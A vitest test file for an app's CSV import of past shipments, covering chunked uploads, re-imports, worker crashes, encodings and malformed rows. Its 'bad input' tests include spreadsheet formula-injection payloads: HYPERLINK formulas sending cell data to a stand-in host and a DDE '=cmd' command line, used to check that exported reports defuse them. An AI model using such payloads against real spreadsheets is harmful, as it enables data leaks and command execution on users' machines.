import { globSync, readFileSync } from "node:fs";
import { readFile } from "node:fs/promises";
import { parse } from "csv-parse/sync";
import { beforeAll, describe, expect, it } from "vitest";
import { forJob, fromAdmin } from "../../app/authenticate.server";
import type { Ctx } from "../../app/context";
import { inShop } from "../../app/db.server";
import { checkSome } from "../../app/providers/check-commands.server";
import type { ShipmentMap } from "../../app/providers/core/shipment-map";
import type { RefusedCell } from "../../app/providers/core/shipment-row";
import { advanceHistory, forgetStaleImports } from "../../app/providers/history-work-commands.server";
import {
  beginImport,
  confirmImport,
  discardImport,
  mapImport,
  receivePiece,
} from "../../app/providers/import-commands.server";
import { importAnswer, refusedCells, refusedReport } from "../../app/providers/import-queries.server";
import { importSome } from "../../app/providers/shipment-commands.server";
import { prepareQueues, runJobs } from "../support/run-jobs";
import { adminRequest, installedShop } from "../support/shops";

beforeAll(prepareQueues);

async function worker(shop: string, now = new Date()): Promise<Ctx> {
  const ctx = await forJob(shop, "test", { alsoWhenUninstalled: false });
  if (!ctx) throw new Error("the shop is not installed");
  return { ...ctx, now: () => now };
}

const map: ShipmentMap = {
  columns: {
    externalId: "Order",
    provider: "Carrier",
    mode: "Mode",
    destination: "Country",
    promisedOn: "Promised",
    deliveredOn: "Delivered",
    weightKg: "Weight",
    freight: "Freight",
  },
  dateFormats: ["YYYY-MM-DD"],
  currency: "EUR",
};
const headings = "Order,Carrier,Mode,Country,Promised,Delivered,Weight,Freight";
const line = (order: number | string, rest = "") =>
  `${order},Lotus Consolidated,Air,Brazil,2026-03-10,2026-03-${rest || "09"},1.5,12.30`;
/** A file whose every tenth shipment was late. */
const file = (rows: number) =>
  [headings, ...Array.from({ length: rows }, (_, at) => line(at + 1, at % 10 === 0 ? "12" : "09"))].join(
    "\n",
  );

/** Takes a file in and waits for its map, in pieces of the size given. */
async function takeIn(
  ctx: Ctx,
  content: string | Uint8Array,
  startedBy: string | null = "1",
  piece = 100_000,
) {
  const bytes = Buffer.from(content);
  const id = ctx.newId();
  await beginImport(ctx, { id, fileName: "past.csv", fileBytes: bytes.length, startedBy });
  for (let at = 0; at < bytes.length; at += piece) {
    const received = await receivePiece(ctx, id, { at, bytes: bytes.subarray(at, at + piece) });
    if (!received.ok) return { id, problem: received.problem };
  }
  return { id, problem: null };
}

/** Imports a file as a person does on the page, with the jobs of a worker. */
async function importWhole(ctx: Ctx, content: string | Uint8Array, asMap = map) {
  const { id } = await takeIn(ctx, content);
  expect(await mapImport(ctx, id, asMap)).toMatchObject({ ok: true });
  await runJobs();
  expect(await confirmImport(ctx, id)).toEqual({ ok: true, value: null });
  await runJobs();
  return { id, answer: await importAnswer(ctx, id), refused: await refusedOf(ctx, id) };
}

async function refusedOf(ctx: Ctx, id: string) {
  const cells: Pick<RefusedCell, "row" | "column" | "value" | "reason">[] = [];
  for await (const { row, column, value, reason } of refusedCells(ctx, id))
    cells.push({ row, column, value, reason });
  return cells;
}

async function books(shop: string) {
  return inShop(shop, async (db) => ({
    providers: await db.provider.findMany({
      where: { shopId: shop },
      orderBy: { name: "asc" },
      select: { name: true, state: true, sent: true, delivered: true, onTime: true, late: true },
    }),
    countries: await db.providerTally.findMany({
      where: { shopId: shop, sent: { not: 0 } },
      orderBy: { country: "asc" },
      select: { country: true, sent: true, delivered: true, onTime: true, late: true },
    }),
    modes: await db.providerModeTally.findMany({
      where: { shopId: shop, sent: { not: 0 } },
      orderBy: { mode: "asc" },
      select: { mode: true, sent: true, onTime: true, late: true },
    }),
    records: await db.shipmentRecord.count({ where: { shopId: shop } }),
  }));
}

async function leftOver(shop: string) {
  return inShop(shop, async (db) => ({
    chunks: await db.shipmentImportChunk.count({ where: { shopId: shop } }),
    staged: await db.stagedShipment.count({ where: { shopId: shop } }),
    refused: await db.refusedShipmentCell.count({ where: { shopId: shop } }),
  }));
}

describe("a file of past shipments", () => {
  it("makes its carriers providers in use, with what they did by country and mode", async () => {
    const shop = await installedShop();
    const { answer } = await importWhole(await worker(shop), file(30));
    expect(answer).toMatchObject({ rows: 30, imported: 30, unchanged: 0, delivered: 30, onTime: 27 });
    expect(answer.freightSum).toBe(369);
    const counts = { sent: 30, delivered: 30, onTime: 27, late: 3 };
    expect(await books(shop)).toEqual({
      providers: [{ name: "Lotus Consolidated", state: "found", ...counts }],
      countries: [{ country: "BR", ...counts }],
      modes: [{ mode: "Air", sent: 30, onTime: 27, late: 3 }],
      records: 30,
    });
  });

  it("adds nothing when it is told again, and moves the counts with the rows that changed", async () => {
    const shop = await installedShop();
    const ctx = await worker(shop);
    await importWhole(ctx, file(40));
    const before = await books(shop);
    const again = await importWhole(ctx, file(40));
    expect(again.answer).toMatchObject({ rows: 40, imported: 0, unchanged: 40 });
    expect(await books(shop)).toEqual(before);

    const corrected = file(40)
      .replace(line(2), `2,4PX,Sea,Germany,2026-03-10,2026-03-12,1.5,12.30`)
      .replace(line(3), `3,Lotus Consolidated,Air,Brazil,2026-03-10,,1.5,12.30`);
    const third = await importWhole(ctx, corrected);
    expect(third.answer).toMatchObject({ imported: 2, unchanged: 38 });
    expect(await books(shop)).toEqual({
      providers: [
        { name: "4PX", state: "found", sent: 1, delivered: 1, onTime: 0, late: 1 },
        { name: "Lotus Consolidated", state: "found", sent: 39, delivered: 38, onTime: 34, late: 4 },
      ],
      countries: [
        { country: "BR", sent: 39, delivered: 38, onTime: 34, late: 4 },
        { country: "DE", sent: 1, delivered: 1, onTime: 0, late: 1 },
      ],
      modes: [
        { mode: "Air", sent: 39, onTime: 34, late: 4 },
        { mode: "Sea", sent: 1, onTime: 0, late: 1 },
      ],
      records: 40,
    });
  });

  it("goes on where a worker was killed, at every point, as if nothing had happened", async () => {
    const shop = await installedShop();
    const ctx = await worker(shop);
    const { id } = await takeIn(ctx, file(1_600), null);
    await mapImport(ctx, id, map);
    const dying = dyingOften(ctx);
    await untilDone(() => checkSome(dying, id));
    expect(await importAnswer(ctx, id)).toMatchObject({ rows: 1_600, imported: 1_600, onTime: 1_440 });
    await confirmImport(ctx, id);
    await untilDone(() => importSome(dying, id));
    expect(dying.deaths).toBeGreaterThan(5);
    expect(await importAnswer(ctx, id)).toMatchObject({ imported: 1_600, unchanged: 0 });
    const counts = { sent: 1_600, delivered: 1_600, onTime: 1_440, late: 160 };
    expect(await books(shop)).toMatchObject({ providers: [counts], countries: [counts], records: 1_600 });
    expect(await leftOver(shop)).toEqual({ chunks: 0, staged: 0, refused: 0 });
  });

  it("imports one file by two workers at once without a double", async () => {
    const shop = await installedShop();
    const ctx = await worker(shop);
    const { id } = await takeIn(ctx, file(1_100), null);
    await mapImport(ctx, id, map);
    const twice = (turn: () => Promise<string>) => Promise.all([untilDone(turn), untilDone(turn)]);
    await twice(() => checkSome(ctx, id));
    await confirmImport(ctx, id);
    await twice(() => importSome(ctx, id));
    expect(await books(shop)).toMatchObject({ providers: [{ sent: 1_100, late: 110 }], records: 1_100 });
  });

  it("leaves another shop's books alone, whose orders have the same numbers", async () => {
    const [shop, other] = [await installedShop(), await installedShop()];
    await importWhole(await worker(other), file(12));
    const before = await books(other);
    const { answer } = await importWhole(await worker(shop), file(12));
    expect(answer).toMatchObject({ imported: 12, unchanged: 0 });
    expect(await books(other)).toEqual(before);
  });

  it("changes nothing by being checked, and is forgotten when it is given up", async () => {
    const shop = await installedShop();
    const ctx = await worker(shop);
    const { id } = await takeIn(ctx, `${file(20)}\nbad,4PX,Air,Brazil,never,,,`);
    await mapImport(ctx, id, map);
    await runJobs();
    expect(await importAnswer(ctx, id)).toMatchObject({ rows: 21, imported: 20, refusedRows: 1 });
    expect(await books(shop)).toEqual({ providers: [], countries: [], modes: [], records: 0 });
    await discardImport(ctx, id);
    await runJobs();
    expect(await leftOver(shop)).toEqual({ chunks: 0, staged: 0, refused: 0 });
    expect(await confirmImport(ctx, id)).toEqual({ ok: false, problem: "not-checked" });
  });

  it("is read anew under another map", async () => {
    const ctx = await worker(await installedShop());
    const { id } = await takeIn(ctx, file(1_500));
    const wrong = { ...map, columns: { ...map.columns, deliveredOn: "Promised" } };
    for (const [each, onTime] of [
      [wrong, 1_500],
      [map, 1_350],
    ] as const) {
      await mapImport(ctx, id, each);
      await runJobs();
      expect(await importAnswer(ctx, id)).toMatchObject({ rows: 1_500, imported: 1_500, onTime });
    }
  });

  it("is dropped when nobody goes on with it, and its report a month after it is imported", async () => {
    const shop = await installedShop();
    const begun = await worker(shop);
    const { id } = await takeIn(begun, file(5));
    const later = (days: number) => worker(shop, new Date(Date.now() + days * 86_400_000));
    await forgetStaleImports(await later(1));
    expect(await leftOver(shop)).toMatchObject({ chunks: 1 });
    await forgetStaleImports(await later(3));
    expect(await leftOver(shop)).toMatchObject({ chunks: 0 });
    expect(await confirmImport(begun, id)).toMatchObject({ ok: false });

    const done = await importWhole(begun, `${file(5)}\n1,,,,,,,`);
    await forgetStaleImports(await later(29));
    expect(await leftOver(shop)).toMatchObject({ refused: 1 });
    await forgetStaleImports(await later(31));
    expect(await leftOver(shop)).toMatchObject({ refused: 0 });
    await expect(importAnswer(begun, done.id)).rejects.toThrow();
    expect((await books(shop)).records).toBe(5);
  });

  it("waits while the app is gone from the store", async () => {
    const shop = await installedShop();
    const ctx = await worker(shop);
    const { id } = await takeIn(ctx, file(5));
    await mapImport(ctx, id, map);
    await inShop(shop, (db) => db.shop.update({ where: { id: shop }, data: { state: "uninstalled" } }));
    await runJobs();
    const state = () =>
      inShop(shop, (db) => db.shipmentImport.findFirstOrThrow({ where: { shopId: shop, id } }));
    expect(await state()).toMatchObject({ state: "checking", checkedTo: 0n });
  });

  it("arrives in pieces, repeated and after a break, and not out of turn", async () => {
    const ctx = await worker(await installedShop());
    const bytes = Buffer.from(file(3));
    const id = ctx.newId();
    await beginImport(ctx, { id, fileName: "past.csv", fileBytes: bytes.length, startedBy: "1" });
    const send = (at: number, to: number) => receivePiece(ctx, id, { at, bytes: bytes.subarray(at, to) });
    expect(await send(0, 40)).toEqual({ ok: true, value: { received: 40 } });
    expect(await send(0, 40)).toEqual({ ok: true, value: { received: 40 } });
    expect(await send(60, 80)).toEqual({ ok: false, problem: "out-of-turn" });
    expect(await send(40, bytes.length)).toEqual({ ok: true, value: { received: bytes.length } });
    expect(await mapImport(ctx, id, map)).toMatchObject({ ok: true });
    await advanceHistory(ctx, { forMs: 5_000 });
    expect(await importAnswer(ctx, id)).toMatchObject({ rows: 3, imported: 3 });
  });

  it("says why it takes a file not at all", async () => {
    const ctx = await worker(await installedShop());
    expect((await takeIn(ctx, Buffer.from("504b0304aabbccdd", "hex"), null)).problem).toBe("not-text");
    expect((await takeIn(ctx, "\ufeff\n\n", null)).problem).toBe("no-headings");
    expect((await takeIn(ctx, "a,".repeat(600), null)).problem).toBe("too-many-columns");
    const begin = (fileBytes: number) =>
      beginImport(ctx, { id: ctx.newId(), fileName: "past.csv", fileBytes, startedBy: "1" });
    expect(await begin(0)).toEqual({ ok: false, problem: "empty-file" });
    expect(await begin(201 * 1024 * 1024)).toEqual({ ok: false, problem: "too-large" });
    expect(await begin(10)).toMatchObject({ ok: true });
    expect(await begin(10)).toEqual({ ok: false, problem: "one-under-way" });
  });
});

describe("bad input", () => {
  it("keeps to rows and cells whatever the file: separator, encoding, doubles, NULs, formulas, broken quotes", async () => {
    const ctx = await worker(await installedShop());
    const rows = [
      headings.replaceAll(",", ";"),
      "1;Größe & Söhne;Air;Brazil;2026-03-10;2026-03-09;1,5;12,30",
      "1;Lotus;Air;Brazil;2026-03-10;2026-03-09;1,5;12,30",
      "2\0;Lotus;Air;Brazil;2026-03-10;2026-03-09;;",
      "3;Lotus;Air;Brazil;2026-03-10;Date Not Captured;See ASN-93;=1+1",
      '4;"Lotus;Air',
      "5;=Lotus;Air;Brazil;2026-03-10;2026-03-11;1.234,5;1.000,10",
    ].join("\r\n");
    const { answer, refused } = await importWhole(ctx, Buffer.from(rows, "latin1"));
    expect(answer).toMatchObject({ rows: 6, imported: 3, delivered: 2, onTime: 1, freightSum: 1_012.4 });
    expect(refused).toEqual([
      { row: 2, column: "externalId", value: "1", reason: "duplicate" },
      { row: 3, column: "externalId", value: "2\0", reason: "unreadable-characters" },
      { row: 4, column: "deliveredOn", value: "Date Not Captured", reason: "not-a-date" },
      { row: 4, column: "weightKg", value: "See ASN-93", reason: "not-a-number" },
      { row: 4, column: "freight", value: "=1+1", reason: "not-a-number" },
      { row: 5, column: null, value: '4;"Lotus;Air', reason: "open-quote" },
    ]);
    // A sign before a name makes no other carrier of it.
    expect(answer.providers.map(({ name }) => name).sort()).toEqual(["Größe & Söhne", "Lotus"]);
  });

  it("writes no cell into its report that a spreadsheet takes for a formula", async () => {
    const shop = await installedShop();
    const ctx = await worker(shop);
    const begins = ["=", "+", "-", "@", "\t=", "\r=", "\uff1d", "\uff0b", "\uff0d", "\uff20"];
    const formulas = begins.map((sign) => `${sign}HYPERLINK("https://trap.invalid/"&A1,"x")`);
    const quoted = (text: string) => `"${text.replaceAll('"', '""')}"`;
    const rows = formulas.map((formula, at) => [`${at}`, formula].map(quoted).join(","));
    const { id } = await takeIn(ctx, ["Order,=Promised", ...rows].join("\n"));
    const columns = { externalId: "Order", promisedOn: "=Promised" };
    expect(await mapImport(ctx, id, { columns, dateFormats: ["YYYY-MM-DD"] })).toMatchObject({ ok: true });
    await runJobs();
    const staff = await fromAdmin(adminRequest(shop, "/app"), "history.import");
    const parts: Uint8Array[] = [];
    for await (const part of (await refusedReport(staff, id)) ?? []) parts.push(part);
    const cells = (parse(Buffer.concat(parts), { bom: true }) as string[][]).flat();
    // All of them are in it, each behind something that makes it text.
    for (const formula of formulas) expect(cells.some((cell) => cell.endsWith(formula.trim()))).toBe(true);
    expect(cells.filter((cell) => /^[=+\-@\t\r\uff1d\uff0b\uff0d\uff20]/.test(cell))).toEqual([]);
  });

  it("is with buyers' answers the one part of the app that writes a file for spreadsheets", () => {
    const writers = globSync("app/**/*.{ts,tsx}").filter((one) =>
      /csv-stringify|text\/csv|papaparse/.test(readFileSync(one, "utf8")),
    );
    expect(writers.toSorted()).toEqual([
      "app/providers/import-queries.server.ts",
      "app/routes/app.providers.history.refused.tsx",
      // tests/flows/survey-export.test.ts
      "app/routes/app.quality.download.$file.tsx",
      "app/surveys/export-queries.server.ts",
    ]);
  });

  it("reads a file in UTF-16, whatever is cut where it arrives in pieces", async () => {
    const ctx = await worker(await installedShop());
    const { id } = await takeIn(
      ctx,
      Buffer.from(`\ufeff${file(20).replaceAll("Brazil", "巴西")}`, "utf16le"),
      "1",
      97,
    );
    expect(await mapImport(ctx, id, map)).toMatchObject({ ok: true });
    await advanceHistory(ctx, { forMs: 5_000 });
    expect(await importAnswer(ctx, id)).toMatchObject({
      rows: 20,
      imported: 20,
      unplaced: 0,
      refusedCells: 0,
    });
  });

  it("hands the report out without a cell that a spreadsheet would run, and notes who took it", async () => {
    const shop = await installedShop();
    const { id } = await importWhole(
      await worker(shop),
      `${headings}\n1,DHL,Air,Brazil,"=cmd|'/c calc'!A0",,,`,
    );
    const staff = await fromAdmin(adminRequest(shop, "/app"), "history.import");
    const parts: Uint8Array[] = [];
    for await (const part of (await refusedReport(staff, id)) ?? []) parts.push(part);
    const text = Buffer.concat(parts).toString();
    expect(text).toContain("'=cmd|");
    expect(text).not.toMatch(/(^|[,"])=/m);
    const log = await inShop(shop, (db) => db.accessLog.findMany({ where: { shopId: shop, entityId: id } }));
    expect(log).toMatchObject([{ action: "history.refused-download", subject: "1" }]);
  });
});

describe("the sample file", () => {
  // Counted from the same rows by another program (Python's csv, datetime and decimal).
  it("gives the figures that were counted of it elsewhere", async () => {
    const ctx = await worker(await installedShop());
    const sample = await readFile("public/samples/past-shipments.csv");
    const its = JSON.parse(await readFile("public/samples/past-shipments.map.json", "utf8")) as ShipmentMap;
    const { answer, refused } = await importWhole(ctx, sample, its);
    expect(answer).toMatchObject({
      rows: 240,
      imported: 240,
      delivered: 240,
      onTime: 203,
      meanDelayDays: -5.325,
    });
    expect(answer).toMatchObject({ freightSum: 1_516_524.16, refusedRows: 0, unplaced: 0 });
    const byMode = Object.entries(answer.byMode).map(([mode, { rows, onTime }]) => [mode, rows, onTime]);
    expect(byMode.sort()).toEqual([
      ["Air Charter", 12, 10],
      ["Air", 142, 125],
      ["N/A", 5, 5],
      ["Ocean", 6, 4],
      ["Truck", 75, 59],
    ]);
    const count = (column: string) => refused.filter((cell) => cell.column === column).length;
    expect([count("freight"), count("weightKg"), refused.length]).toEqual([96, 92, 188]);
    const { providers } = await books(ctx.shop.id);
    expect(providers).toHaveLength(29);
    expect(providers.find(({ name }) => name === "SCMS from RDC")).toMatchObject({
      sent: 124,
      onTime: 93,
      late: 31,
    });
  });
});

async function untilDone(turn: () => Promise<string>): Promise<void> {
  for (;;) {
    try {
      if ((await turn()) === "done") return;
    } catch (error) {
      if (!(error instanceof Death)) throw error;
    }
  }
}

class Death extends Error {}

/** A context whose every second transaction dies at its end, with all its work done and nothing of it committed. */
function dyingOften(ctx: Ctx): Ctx & { deaths: number } {
  let turns = 0;
  const dying = {
    ...ctx,
    deaths: 0,
    transact: <T>(work: Parameters<Ctx["transact"]>[0]) =>
      ctx.transact(async (db) => {
        const result = await work(db);
        turns += 1;
        if (turns % 2 === 1) {
          dying.deaths += 1;
          throw new Death();
        }
        return result as T;
      }),
  };
  return dying as Ctx & { deaths: number };
}
